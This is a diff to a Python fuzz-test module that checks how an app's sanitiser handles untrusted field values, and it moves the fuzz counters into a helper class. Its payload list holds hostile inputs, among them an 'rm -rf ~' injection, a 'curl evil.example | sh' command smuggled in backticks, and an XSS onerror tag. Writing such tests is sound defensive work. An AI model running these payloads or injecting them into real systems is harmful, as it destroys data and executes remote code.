@@ -8,7 +8,6 @@ Markdown (no link, image or extra command), and with a message for what was drop
 from __future__ import annotations
 
 import io
-import json
 import os
 
 import numpy as np
@@ -20,10 +19,12 @@ from PIL import Image
 import apptest_helpers
 from apptest_helpers import texts
 from conftest import real_data_dir
+from fuzz_counts import FuzzCounts
 from lfx_engine.config import REPO_ROOT
 from lfx_ui import safe, upload
 
-FUZZ_COUNTS: dict[str, dict[str, int]] = {}
+FUZZ_COUNTS = FuzzCounts("app")
+count = FUZZ_COUNTS.count
 PAYLOADS = [
     "[click me](https://evil.example/x)", "![x](https://evil.example/pixel.png)", "mnist_dae\nrm -rf ~",
     "mnist`; curl evil.example | sh`", "<img src=x onerror=alert(1)>", "**bold** _it_ # head", "a" * 600,
@@ -32,18 +33,11 @@ PAYLOADS = [
 FIELDS = ("dataset", "model", "methods", "xmethods", "sample", "cls")
 
 
-def count(kind: str, outcome: str) -> None:
-    row = FUZZ_COUNTS.setdefault(kind, {"cases": 0, "clear": 0, "crashes": 0})
-    row["cases"] += 1
-    row[outcome] += 1
-
 
 @pytest.fixture(scope="module", autouse=True)
 def report_counts():
     yield
-    out = REPO_ROOT / "tests" / "artifacts"
-    out.mkdir(parents=True, exist_ok=True)
-    (out / "fuzz_counts_app.json").write_text(json.dumps(FUZZ_COUNTS, indent=1) + "\n")
+    FUZZ_COUNTS.write()
 
 
 @pytest.fixture(scope="module", autouse=True)
